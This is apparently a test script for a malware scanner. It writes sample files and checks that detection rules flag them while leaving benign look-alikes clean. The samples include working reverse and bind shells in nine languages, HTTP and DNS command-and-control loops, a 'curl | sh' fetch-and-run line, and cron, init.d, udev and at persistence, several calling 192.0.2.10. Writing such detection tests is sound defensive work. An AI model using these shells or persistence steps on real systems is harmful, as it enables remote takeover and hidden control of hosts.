#!/bin/sh
# Reverse and bind shells in the other languages a host runs, agents' command loops, generator
# templates whose address and port are placeholders, and the two-step cron and init.d writes
# (issue 16, rules/shells.yar and rules/persistence.yar, session 19): each sample is written
# here and is found by the rule named with the id expected; the look-alikes beside them (a port
# probe, a service that runs a fixed command, a hardening script's init script, a Go tool with a
# connection and a shell that are not joined) stay clean.
. "$AIRLOCK_SRC/tests/lib.sh"

t=$TEST_TMPDIR
mkdir -p "$t/mal" "$t/ben"
cat >"$t/mal/tpl.sh" <<'EOF'
#!/bin/sh
exec 7<>/dev/tcp/$RHOST/$RPORT
sh <&7 >&7 2>&7
EOF
cat >"$t/mal/agent.py" <<'EOF'
import socket, subprocess
conn = socket.socket()
conn.connect(("192.0.2.10", 9100))
while True:
    order = conn.recv(4096).decode()
    res = subprocess.run(order, shell=True, capture_output=True)
    conn.sendall(res.stdout + res.stderr)
EOF
cat >"$t/mal/web_agent.py" <<'EOF'
import subprocess, time, requests
base = "http://192.0.2.10:8000"
while True:
    job = requests.get(base + "/next").text
    if job:
        out = subprocess.check_output(job, shell=True, stderr=subprocess.STDOUT)
        requests.post(base + "/done", data=out)
    time.sleep(5)
EOF
cat >"$t/mal/Back.java" <<'EOF'
import java.io.*;
import java.net.Socket;
public class Back {
    public static void main(String[] a) throws Exception {
        Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        Socket s = new Socket("192.0.2.10", 9100);
        InputStream from = s.getInputStream(), out = p.getInputStream();
        OutputStream to = s.getOutputStream(), in = p.getOutputStream();
        while (true) { while (from.available() > 0) in.write(from.read()); while (out.available() > 0) to.write(out.read()); in.flush(); to.flush(); Thread.sleep(20); }
    }
}
EOF
cat >"$t/mal/back.go" <<'EOF'
package main

import (
	"net"
	"os/exec"
)

func main() {
	link, _ := net.Dial("tcp", "192.0.2.10:9100")
	sh := exec.Command("/bin/sh")
	sh.Stdin = link
	sh.Stdout = link
	sh.Run()
}
EOF
cat >"$t/mal/back.c" <<'EOF'
#include <arpa/inet.h>
#include <unistd.h>
int main(void)
{
	struct sockaddr_in peer = { .sin_family = AF_INET, .sin_port = htons(9100) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	inet_pton(AF_INET, "192.0.2.10", &peer.sin_addr);
	connect(fd, (struct sockaddr *)&peer, sizeof(peer));
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	execl("/bin/sh", "sh", (char *)0);
	return 1;
}
EOF
cat >"$t/mal/Back.cs" <<'EOF'
using System.Diagnostics;
using System.Net.Sockets;
class Back {
    static void Main() {
        var link = new TcpClient("192.0.2.10", 9100);
        var io = link.GetStream();
        var psi = new ProcessStartInfo("cmd.exe") { RedirectStandardInput = true, RedirectStandardOutput = true, UseShellExecute = false };
        var p = Process.Start(psi);
        p.StandardOutput.BaseStream.CopyToAsync(io);
        io.CopyTo(p.StandardInput.BaseStream);
    }
}
EOF
cat >"$t/mal/back.rs" <<'EOF'
use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};
fn main() {
    let s = TcpStream::connect("192.0.2.10:9100").unwrap();
    let fd = s.as_raw_fd();
    Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).stdout(unsafe { Stdio::from_raw_fd(fd) }).spawn().unwrap().wait().unwrap();
}
EOF
cat >"$t/mal/bind.rb" <<'EOF'
require 'socket'
srv = TCPServer.new(9100)
cli = srv.accept
[$stdin, $stdout, $stderr].each { |io| io.reopen(cli) }
exec '/bin/sh -i'
EOF
cat >"$t/mal/bind.php" <<'EOF'
<?php
$srv = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_bind($srv, "0.0.0.0", 9100);
socket_listen($srv);
$cli = socket_accept($srv);
while (($line = socket_read($cli, 2048)) !== false) {
    $res = shell_exec($line);
    socket_write($cli, $res, strlen($res));
}
EOF
cat >"$t/mal/cron-file.sh" <<'EOF'
#!/bin/sh
crontab -l > /tmp/.c 2>/dev/null
echo "@reboot /var/tmp/.x/run" >> /tmp/.c
crontab /tmp/.c
EOF
cat >"$t/mal/initd.sh" <<'EOF'
#!/bin/sh
printf '#!/bin/sh\nsh -i >& /dev/udp/192.0.2.10/53 0>&1 &\n' > /etc/init.d/netcheck
chmod +x /etc/init.d/netcheck
update-rc.d netcheck defaults
EOF

cat >"$t/mal/beacon.sh" <<'EOF'
#!/bin/sh
while true; do
	job=$(curl -fs http://192.0.2.10/task)
	res=$(eval "$job" 2>&1)
	curl -fs -d "$res" http://192.0.2.10/result
	sleep 30
done
EOF
cat >"$t/mal/txt.sh" <<'EOF'
#!/bin/sh
dig +short TXT cmd.example.invalid | tr -d '"' | base64 -d | sh
EOF
cat >"$t/mal/udev.sh" <<'EOF'
#!/bin/sh
echo 'ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c /var/tmp/.n/up"' > /etc/udev/rules.d/75-net.rules
udevadm control --reload
EOF
cat >"$t/mal/at.sh" <<'EOF'
#!/bin/sh
echo "curl -s http://192.0.2.10/a | sh" | at now + 2 minutes
EOF

cat >"$t/mal/gen.py" <<'EOF'
import sys
host, port = sys.argv[1], sys.argv[2]
print("bash -i >& /dev/tcp/" + host + "/" + port + " 0>&1")
EOF
cat >"$t/mal/pipe.sh" <<'EOF'
#!/bin/sh
cat /tmp/q | /bin/sh -i 2>&1 | nc 192.0.2.10 9100 > /tmp/q
EOF

cat >"$t/ben/probe.sh" <<'EOF'
#!/bin/sh
for port in 22 80 443; do
	if timeout 1 bash -c "</dev/tcp/$HOST/$port"; then echo "$port open"; fi
done
EOF
cat >"$t/ben/status_server.py" <<'EOF'
import socket, subprocess
srv = socket.socket()
srv.bind(("127.0.0.1", 9100))
srv.listen()
while True:
    c, _ = srv.accept()
    c.recv(64)
    c.sendall(subprocess.run(["uptime"], capture_output=True).stdout)
    c.close()
EOF
cat >"$t/ben/harden.sh" <<'EOF'
#!/bin/sh
cat > /etc/init.d/tmpfs-logs <<'END'
#!/bin/sh
mount -t tmpfs tmpfs /var/log
END
chmod +x /etc/init.d/tmpfs-logs
update-rc.d tmpfs-logs defaults
EOF
cat >"$t/ben/hook.go" <<'EOF'
package main

import (
	"net"
	"os"
	"os/exec"
)

func main() {
	if c, err := net.Dial("tcp", "127.0.0.1:5432"); err == nil {
		c.Close()
	}
	cmd := exec.Command("sh", "-c", os.Args[1])
	cmd.Stdin = os.Stdin
	cmd.Stdout = os.Stdout
	cmd.Run()
}
EOF

cat >"$t/ben/usb.sh" <<'EOF'
#!/bin/sh
echo 'SUBSYSTEM=="usb", ATTR{idVendor}=="2341", MODE="0666"' > /etc/udev/rules.d/99-board.rules
udevadm control --reload-rules
EOF
cat >"$t/ben/wait.sh" <<'EOF'
#!/bin/sh
while true; do
	state=$(curl -fs http://127.0.0.1:8080/health)
	[ "$state" = ok ] && break
	sleep 1
done
EOF

"$AIRLOCK" analyze --json "$t/mal" "$t/ben" >"$t/report.json" 2>"$t/err"
expect_eq "analyze-exit-1" 1 $?
python3 - "$t/report.json" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
def walk(n):
    yield n
    for c in n.get("children", []):
        yield from walk(c)
files = {n["name"]: n for f in r["files"] for n in walk(f) if not n.get("children")}
want = {
    "tpl.sh": ("shell_reverse_shell_template", "T1095"),
    "agent.py": ("python_socket_command_loop", "T1059.006"),
    "web_agent.py": ("python_http_command_loop", "T1071.001"),
    "Back.java": ("java_socket_shell", "T1095"),
    "back.go": ("go_socket_shell", "T1095"),
    "back.c": ("c_socket_shell", "T1095"),
    "Back.cs": ("csharp_socket_shell", "T1095"),
    "back.rs": ("rust_socket_shell", "T1095"),
    "bind.rb": ("ruby_bind_shell", "T1059.004"),
    "bind.php": ("php_socket_command_loop", "T1095"),
    "cron-file.sh": ("linux_cron_file_persistence", "T1053.003"),
    "initd.sh": ("linux_initd_persistence", "T1037"),
    "beacon.sh": ("shell_http_command_loop", "T1071.001"),
    "txt.sh": ("shell_dns_txt_command", "T1071.004"),
    "udev.sh": ("linux_udev_persistence", "T1546.017"),
    "at.sh": ("linux_at_job_persistence", "T1053.002"),
    "gen.py": ("shell_reverse_shell_template", "T1095"),
    "pipe.sh": ("shell_reverse_shell_template", "T1095"),
}
for name, (rule, tid) in sorted(want.items()):
    n = files.get(name)
    got = {x["rule"]: x["attack"] for x in n["findings"]} if n else {}
    ok = n is not None and n["verdict"] != "clean" and rule in got and tid in got[rule]
    print(("PASS: %s" if ok else "FAIL: %s: " + (n["verdict"] + " " + ",".join(got) if n else "missing")) % ("found-" + name))
for name in ("probe.sh", "status_server.py", "harden.sh", "hook.go", "usb.sh", "wait.sh"):
    n = files.get(name)
    ok = n is not None and n["verdict"] == "clean"
    print(("PASS: %s" if ok else "FAIL: %s: " + (n["verdict"] + " " + ",".join(x["rule"] for x in n["findings"]) if n else "missing")) % ("clean-" + name))
PY
exit 0
